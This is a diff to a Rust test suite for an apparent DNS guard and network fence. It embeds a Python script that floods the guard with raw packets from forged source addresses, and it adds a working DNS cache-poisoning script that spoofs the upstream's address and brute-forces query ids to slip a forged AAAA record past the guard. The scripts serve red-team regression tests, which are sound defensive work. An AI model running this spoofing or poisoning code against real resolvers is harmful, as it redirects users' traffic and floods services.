@@ -535,7 +535,9 @@ fn one_client_flooding_the_guard_does_not_starve_another() {
 /// Root without CAP_NET_ADMIN but with CAP_NET_RAW (Docker's default root) forges, over a
 /// raw socket for `argv[1]` seconds, queries the upstream never answers from `argv[2]`
 /// source addresses 203.0.113.1 and up, each a client of its own by address. From the
-/// red-team review of issue 10.
+/// red-team review of issue 10. Since round 4 the fence refuses a packet to this host from a
+/// source not its own (EPERM here): the flood stays, so that the guard is shown to survive
+/// it whichever way it is stopped; forged sources from a listed bridge still reach it.
 const RAW_FLOOD: &str = r#"
 import socket, struct, sys, time
 secs, nsrc = float(sys.argv[1]), int(sys.argv[2])
@@ -551,7 +553,10 @@ while time.monotonic() < end:
         p = q(n & 0xffff, "flood%d.pool.example" % n)
         udp = struct.pack(">HHHH", 10000 + n % 50000, 53, 8 + len(p), 0) + p
         ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
-        s.sendto(ip + udp, ("127.0.0.53", 0))
+        try:
+            s.sendto(ip + udp, ("127.0.0.53", 0))
+        except PermissionError:
+            pass
         n += 1
     if time.monotonic() - said >= 1:
         said = time.monotonic()
@@ -1219,4 +1224,102 @@ fn every_upstream_exchange_comes_from_a_socket_of_its_own() {
         assert!(steps <= 2, "the {what} follow a sequence: {seen:?}");
     }
     drop(guard);
+}
+
+/// Root in a container that dropped CAP_NET_RAW as the README advises (it keeps binding low
+/// ports) answers the guard's upstream question itself: `IPV6_FREEBIND` binds the upstream's
+/// address and port 53, the guard's fresh upstream socket (the one opened after the asker
+/// touched those waiting: each touched one is closed unused) is found in /proc/net/udp6,
+/// and every query id is tried before the upstream (silent here) answers. The forged AAAA
+/// for an exact allowed name goes into the table: a connection to any address. Arguments:
+/// UPSTREAM NAME TARGET. Prints `answered` if the guard released an answer with TARGET,
+/// then `connected` if TARGET's port 443 took a connection.
+const POISON: &str = r#"
+import socket, struct, sys, time
+up, name, target = sys.argv[1], sys.argv[2], sys.argv[3]
+def hexaddr(a):
+    raw = socket.inet_pton(socket.AF_INET6, a)
+    return ''.join('%08X' % struct.unpack('<I', raw[i:i + 4])[0] for i in range(0, 16, 4))
+def unhex(h):
+    raw = b''.join(struct.pack('<I', int(h[i:i + 8], 16)) for i in range(0, 32, 8))
+    return socket.inet_ntop(socket.AF_INET6, raw)
+upstream = hexaddr(up) + ':0035'
+def to_upstream():
+    found = {}
+    for line in open('/proc/net/udp6').read().splitlines()[1:]:
+        f = line.split()
+        if f[2] == upstream:
+            addr, port = f[1].split(':')
+            found[int(f[9])] = (unhex(addr), int(port, 16))
+    return found
+spoof = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+spoof.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
+spoof.bind((up, 53))
+def send(packet, to):
+    try:
+        spoof.sendto(packet, to)
+        return True
+    except PermissionError:
+        return False
+waiting = to_upstream()
+for to in waiting.values():
+    send(b'x', to)
+time.sleep(0.2)
+qname = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
+question = qname + struct.pack('>HH', 28, 1)
+client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+client.sendto(struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0) + question, ('127.0.0.53', 53))
+time.sleep(0.05)
+fresh = {i: to for i, to in to_upstream().items() if i not in waiting}
+record = b'\xc0\x0c' + struct.pack('>HHIH', 28, 1, 60, 16) + socket.inet_pton(socket.AF_INET6, target)
+body = struct.pack('>HHHH', 1, 1, 0, 0) + question + record
+sent = 0
+for i in sorted(fresh)[:2]:
+    for qid in range(65536):
+        sent += send(struct.pack('>HH', qid, 0x8180) + body, fresh[i])
+print('fresh sockets', len(fresh), 'forged answers sent', sent, flush=True)
+client.settimeout(5)
+try:
+    reply = client.recv(4096)
+    if socket.inet_pton(socket.AF_INET6, target) in reply:
+        print('answered', flush=True)
+except socket.timeout:
+    print('no reply', flush=True)
+tcp = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+tcp.settimeout(3)
+try:
+    tcp.connect((target, 443))
+    print('connected', flush=True)
+except OSError as e:
+    print('refused', e, flush=True)
+"#;
+
+/// Red team round 4: the guard's answers come from its upstream only. Root in a container
+/// without CAP_NET_ADMIN or CAP_NET_RAW forges the upstream's answer from the upstream's own
+/// address (`IPV6_FREEBIND`) to the guard's upstream socket on this host: on main it passed
+/// as loopback traffic, and its address for an exact allowed name went into the table.
+#[test]
+fn nobody_in_the_fence_answers_for_the_guards_upstream() {
+    let w = World::new();
+    // The upstream hears the question and stays silent (it echoes the query, no answer).
+    let _silent = w.listen_udp(HOST2_V6, 53);
+    let target = w.listen_tcp(OTHER_V6, 443);
+    let policy = format!(
+        "version: 1\nallow:\n  - domain: api.example\n    ports: [443]\ndns:\n  mode: guard\n  \
+         listen: [\"{GUARD_ADDR}\"]\n  upstream: [\"{HOST2_V6}\"]\n"
+    );
+    let path = w.write_file("guard.yaml", &policy);
+    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
+    let (up, to) = (HOST2_V6.to_string(), OTHER_V6.to_string());
+    let out = w.adversary_cmd(
+        Adversary::RootWithoutNetAdminOrNetRaw,
+        &[PYTHON, "-c", POISON, &up, "api.example", &to],
+    );
+    assert!(out.success(), "{out}");
+    assert!(
+        !out.stdout.contains("answered") && !out.stdout.contains("connected"),
+        "the guard took a forged upstream answer:\n{out}\nguard:\n{}",
+        guard.stderr()
+    );
+    assert_eq!(target.count(), 0, "{OTHER_V6} port 443 was reached");
 }
